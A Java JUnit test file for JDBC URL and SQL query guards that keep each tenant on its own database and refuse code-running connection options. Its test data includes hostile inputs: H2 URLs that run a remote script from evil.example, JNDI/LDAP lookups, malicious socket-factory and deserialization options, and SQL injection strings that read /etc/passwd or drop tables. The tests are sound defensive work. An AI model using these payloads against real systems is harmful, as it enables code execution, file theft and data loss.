/*
 * Copyright 2026 The Backhaul Authors
 * SPDX-License-Identifier: Apache-2.0
 */
package io.backhaul.diff.reach;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class JdbcGuardsTest {

  private static final Reach MALLORY = Reaches.of();

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:postgresql://db.mallory.example.com:5432/shop?sslmode=verify-full&currentSchema=a",
        "jdbc:postgresql://db.mallory.example.com/shop?sslrootcert=/etc/ca.pem",
        "jdbc:postgresql://10.0.0.5:5432,a.m.example.com/shop",
        "jdbc:postgresql://DB.Mallory.example.com./shop",
        "jdbc:mysql:replication://a.m.example.com,b.m.example.com:3306/shop?useSSL=true",
        "jdbc:sqlserver://db.mallory.example.com\\inst:1433;databaseName=shop;encrypt=true",
        "jdbc:oracle:thin:@//db.mallory.example.com:1521/shop",
        "jdbc:oracle:thin:@db.mallory.example.com:1521:shop"
      })
  void theTenantsOwnDatabaseIsReached(String url) {
    assertThat(JdbcUrlGuard.refusal(url, MALLORY)).isEmpty();
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "jdbc:postgresql://db.acme.example.com/shop | allow.hosts",
        "jdbc:postgresql://db.mallory.example.com,db.acme.example.com/shop | allow.hosts",
        "jdbc:postgresql://10.0.0.5:5433/shop | allow.hosts",
        "jdbc:postgresql://10.0.0.5/shop | allow.hosts",
        "jdbc:postgresql://m.example.com/shop | allow.hosts",
        "jdbc:postgresql://evil-m.example.com/shop | allow.hosts",
        "jdbc:postgresql://db.mallory.example.com.evil.example/shop | allow.hosts",
        "jdbc:postgresql://db.mallory.example.com@evil.example/shop | allow.hosts",
        "jdbc:mysql://db.mallory.example.com;@evil.example/shop | allow.hosts",
        "jdbc:mysql://db.mallory.example.com#@evil.example/shop | allow.hosts",
        "jdbc:mysql://db.mallory.example.com%40evil.example/shop | allow.hosts",
        "jdbc:mysql://(host=evil.example,port=3306)/shop | option host",
        "jdbc:mysql://address=(host=evil.example)/shop | option address",
        "jdbc:postgresql://db.mallory.example.com/shop?PGHOST=evil.example | option pghost",
        "jdbc:postgresql://db.mallory.example.com/shop?service=acme | option service",
        "jdbc:postgresql://db.mallory.example.com/shop?sslkey=/run/acme.pk8 | option sslkey",
        "jdbc:sqlserver://;serverName=db.acme.example.com | option servername",
        "jdbc:sqlserver://db.mallory.example.com;failoverPartner=x | option failoverpartner",
        "jdbc:postgresql:shop | hosts plainly",
        "jdbc:postgresql:///shop | hosts plainly",
        "jdbc:mysql+srv://db.mallory.example.com/shop | hosts plainly",
        "jdbc:oracle:thin:@acme | allow.hosts",
        "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(HOST=x))) | option",
        "jdbc:sqlite:/warehouse/acme/shop.db | hosts plainly",
        "jdbc:duckdb:/warehouse/acme/shop.db | hosts plainly",
        "jdbc:h2:file:/warehouse/acme/shop | hosts plainly",
        "jdbc:h2:tcp://db.mallory.example.com/shop | hosts plainly",
        "jdbc:derby:/warehouse/acme/shop | hosts plainly",
        "jdbc:hsqldb:file:/warehouse/acme/shop | hosts plainly",
        "jdbc:unheardof://db.mallory.example.com/shop | hosts plainly"
      })
  void whatIsNotTheTenantsIsRefusedAndSomebodyAloneMayUseIt(String url, String named) {
    assertThat(JdbcUrlGuard.refusal(url, MALLORY)).get().asString().contains(named);
    assertThat(JdbcUrlGuard.refusal(url, null)).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:postgresql://db.mallory.example.com/d?socketFactory=evil.Factory&socketFactoryArg=x",
        "jdbc:postgresql://db.mallory.example.com/d?SOCKETFACTORY=evil.Factory",
        "jdbc:postgresql://db.mallory.example.com/d?ssl=true&sslfactory=evil.Factory",
        "jdbc:postgresql://db.mallory.example.com/d?s%6FcketFactory=evil.Factory",
        "jdbc:postgresql://db.mallory.example.com/d?s%256FcketFactory=evil.Factory",
        "jdbc:postgresql://db.mallory.example.com/d?loggerLevel=TRACE&loggerFile=/srv/www/x.jsp",
        "jdbc:postgresql://db.mallory.example.com/d?authenticationPluginClassName=evil.Plugin",
        "jdbc:postgresql://db.mallory.example.com/d?sslhostnameverifier=evil.Verifier",
        "jdbc:postgresql://db.mallory.example.com/d?sslpasswordcallback=evil.Callback",
        "jdbc:mysql://db.mallory.example.com/d?allowLoadLocalInfile=true",
        "jdbc:mysql://db.mallory.example.com/d?allowUrlInLocalInfile=true",
        "jdbc:mysql://db.mallory.example.com/d?autoDeserialize=yes&queryInterceptors=evil.X",
        "jdbc:mysql://db.mallory.example.com/d?statementInterceptors=evil.X",
        "jdbc:mysql://(host=db.mallory.example.com,autoDeserialize=true)/d",
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
        "jdbc:h2:mem:x; init = CREATE ALIAS X AS 'evil'",
        "jdbc:h2:mem:x;TRACE_LEVEL_SYSTEM_OUT=3\\;RUNSCRIPT FROM 'x'",
        "jdbc:derby:x;createFrom=/warehouse/acme",
        "jdbc:sqlite:x?enable_load_extension=true",
        "jdbc:oracle:thin:@ldap://evil.example:389/x",
        "jdbc:db2://h:50000/d:clientRerouteServerListJNDIName=ldap://evil.example/x;",
        "jdbc:x:jndi:rmi://evil.example/x",
        "jdbc:sqlserver://db.mallory.example.com;trustManagerClass=evil.X",
        "jdbc:sqlserver://db.mallory.example.com;socketFactoryClass=evil.X",
        "jdbc:postgresql://db.mallory.example.com/d?a=b\nsocketFactory=evil.X"
      })
  void optionsThatRunCodeOrOpenFilesAreRefusedToEveryone(String url) {
    assertThat(JdbcUrlGuard.refusal(url, MALLORY)).isPresent();
    assertThat(JdbcUrlGuard.refusal(url, null)).isPresent();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:postgresql://h/d?ssl=true&sslfactory=org.postgresql.ssl.DefaultJavaSSLFactory",
        "jdbc:postgresql://h/d?sslcert=/home/me/c.pem",
        "jdbc:h2:./data/shop;AUTO_SERVER=TRUE",
        "jdbc:sqlite:shop.db",
        "jdbc:hsqldb:file:shop;shutdown=true"
      })
  void whoIsAloneUsesADatabaseAsItIsUsedToBe(String url) {
    assertThat(JdbcUrlGuard.refusal(url, null)).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "SELECT id, upper(name) FROM public.accounts WHERE balance > 10",
        "WITH a AS (SELECT 1 AS id) SELECT * FROM a JOIN b USING (id);"
      })
  void oneSelectOverTablesIsLetThrough(String query) {
    assertThat(JdbcQueryGuard.queryRefusal(query)).isEmpty();
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      value = {
        "SELECT 1) x; DROP TABLE accounts; -- | comment",
        "SELECT 1 /*! UNION SELECT load_file('/etc/passwd') */ | comment",
        "SELECT '\\', pg_read_file('/etc/passwd'), ' ' | backslash",
        "SELECT pg_read_file('/etc/passwd') | pg_read_file",
        "SELECT * FROM pg_ls_dir('/') | pg_ls_dir",
        "SELECT * FROM a WHERE x = (SELECT lo_import('/etc/passwd')) | lo_import",
        "SELECT dblink('host=db.acme.example.com', 'x') | dblink",
        "SELECT pg_catalog.pg_read_file('/x') | pg_read_file",
        "SELECT * FROM `/etc/passwd` | reads a file",
        "SELECT * FROM '/etc/passwd' | cannot be checked",
        "COPY a TO PROGRAM 'x' | cannot be checked",
        "SELECT $$x$$ | cannot be checked",
        "DELETE FROM a | statement",
        "SET x = 1 | statement"
      })
  void anotherQueryIsRefusedWithARemedy(String query, String named) {
    assertThat(JdbcQueryGuard.queryRefusal(query)).get().asString().contains(named).contains(";");
  }

  @ParameterizedTest
  @CsvSource({
    "accounts, true",
    "public.accounts, true",
    "'\"Public\".\"My Accounts\"', true",
    "'(SELECT pg_read_file(1)) x', false",
    "'accounts; DROP TABLE x', false",
    "'accounts WHERE 1=1 UNION SELECT 1', false",
    "pg_ls_dir('/'), false",
    "'/etc/passwd', false"
  })
  void aTableIsAName(String table, boolean fine) {
    assertThat(JdbcQueryGuard.tableRefusal(table).isEmpty()).isEqualTo(fine);
  }
}
